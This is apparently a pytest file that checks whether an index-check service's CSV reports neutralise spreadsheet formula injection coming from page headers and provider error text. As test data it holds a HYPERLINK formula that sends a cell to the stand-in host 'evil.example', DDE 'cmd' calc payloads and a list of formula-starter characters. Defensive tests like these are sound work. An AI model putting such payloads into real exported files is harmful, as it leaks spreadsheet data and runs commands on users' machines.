"""CSV reports against formula injection, through the real path: a loopback site's headers and
a provider's error text reach an index_check job, then the CSV report. A cell that a
spreadsheet would run as a formula starts with ``'``; the JSON report keeps the text as sent.
Both stores (``working`` and ``store_url`` are parametrised over SQLite and PostgreSQL)."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from typing import Any
from urllib.parse import urlencode

import httpx
import pytest

from tests.api_helpers import V1, Api, Providers, api
from tests.fakes.serp import FakeSerpApi, Reply
from tests.fakes.server import serve
from tests.waiting import wait_until

CSV = {"Accept": "text/csv"}
# Formula starters, also behind leading whitespace (any of it), tab/CR on their own, NUL.
FORMULA = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")

# A page's Content-Type -> the report's content_type cell. The fetcher keeps the media type
# lower-cased, and HTTP drops the whitespace before a header value (the space, tab and
# no-break-space variants arrive as "=..."), so each cell is the media type behind a quote.
CONTENT_TYPES = [
    (
        '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
        '=hyperlink("http://evil.example/?leak="&a1,"click")',
    ),
    ("@SUM(1+9)*cmd|' /C calc'!A0", "@sum(1+9)*cmd|' /c calc'!a0"),
    ("+1+cmd|' /C calc'!A0", "+1+cmd|' /c calc'!a0"),
    ("-2+3+cmd|' /C calc'!A0", "-2+3+cmd|' /c calc'!a0"),
    ("   =1+1", "=1+1"),
    ("\t@SUM(1)", "@sum(1)"),
    (" \t-1+1", "-1+1"),
]
# Provider error texts (SerpApi's ``error``, kept verbatim as the row's error_message).
PROVIDER_TEXTS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+1+1",
    "-1",
    "\t=1+1",
    "\r=1+1",
    "\tplain after a tab",
    "\rplain after a carriage return",
    "  =1+1",
    "\n@SUM(1)",
    "\u00a0=1+1",
    "\u3000-1+1",
    "\uff1d1+1",
]
PROVIDER_PLAIN = ["Unsupported query.", "a=b; -1 is fine inside"]


def is_formula(cell: str) -> bool:
    return cell[:1] in ("\t", "\r", "\x00") or cell.lstrip()[:1] in FORMULA


def csv_rows(answer: httpx.Response) -> list[dict[str, str]]:
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(answer.text, newline="")))


def assert_no_formula(rows: list[dict[str, str]]) -> None:
    for line in rows:
        for column, cell in line.items():
            assert not is_formula(cell), (column, cell)


def run_check(client: httpx.Client, urls: list[str]) -> int:
    answer = client.post(f"{V1}/index-check/jobs", json={"urls": urls})
    assert answer.status_code == 202, answer.text
    job_id: int = answer.json()["job_id"]
    done = wait_until(
        lambda: (
            client.get(f"{V1}/index-check/jobs/{job_id}").json()["status"]
            in ("completed", "failed")
        )
    )
    assert done
    return job_id


def json_rows(client: httpx.Client, job_id: int) -> dict[str, dict[str, Any]]:
    page = client.get(f"{V1}/index-check/jobs/{job_id}/report").json()
    return {row["url"]: row for row in page["rows"]}


def test_page_headers_become_text_cells(working: Api, fakes: Providers) -> None:
    client = working.client(working.account())
    pages = {
        f"{fakes.site_base}/headers?{urlencode({'Content-Type': sent, 'n': i})}": stored
        for i, (sent, stored) in enumerate(CONTENT_TYPES)
    }
    robots = f"{fakes.site_base}/headers?{urlencode({'X-Robots-Tag': '=1+1, noindex'})}"
    job_id = run_check(client, [*pages, robots])

    rows = csv_rows(client.get(f"{V1}/index-check/jobs/{job_id}/report", headers=CSV))
    assert len(rows) == len(pages) + 1
    by_url = {line["url"]: line for line in rows}
    for url, stored in pages.items():
        assert by_url[url]["content_type"] == "'" + stored, url
        assert by_url[url]["http_status"] == "200"  # our numbers are written as they are
    assert "noindex" in by_url[robots]["x_robots_tag"]
    assert_no_formula(rows)
    # Nothing is lost: the JSON report has each header as the fetcher read it.
    report = json_rows(client, job_id)
    assert {url: report[url]["diagnostics"]["content_type"] for url in pages} == pages


@pytest.fixture
def serpapi() -> Iterator[FakeSerpApi]:
    fake = FakeSerpApi()
    with serve(fake.app) as base:
        fake.base_url = base
        yield fake


def test_provider_text_becomes_text_cells(
    store_url: str, fakes: Providers, serpapi: FakeSerpApi
) -> None:
    texts = PROVIDER_TEXTS + PROVIDER_PLAIN
    serpapi.script(*(Reply(400, {"error": text}) for text in texts))
    settings = fakes.settings(
        store_url,
        serpapi_key=serpapi.key,
        serpapi_base_url=serpapi.base_url,
        check_providers={"google": ["serpapi"]},
    )
    with api(settings, run_worker=True) as app:
        client = app.client(app.account())
        urls = [f"{fakes.site_base}/ok?n={i}" for i in range(len(texts))]
        job_id = run_check(client, urls)
        rows = csv_rows(client.get(f"{V1}/index-check/jobs/{job_id}/report", headers=CSV))
        report = json_rows(client, job_id)

    # Which URL got which answer depends on the order the worker asked in; the cells do not.
    assert sorted(line["error_message"] for line in rows) == sorted(
        ["'" + text for text in PROVIDER_TEXTS] + PROVIDER_PLAIN
    )
    assert {line["status"] for line in rows} == {"failed"}
    assert_no_formula(rows)
    assert sorted(row["error_message"] for row in report.values()) == sorted(texts)
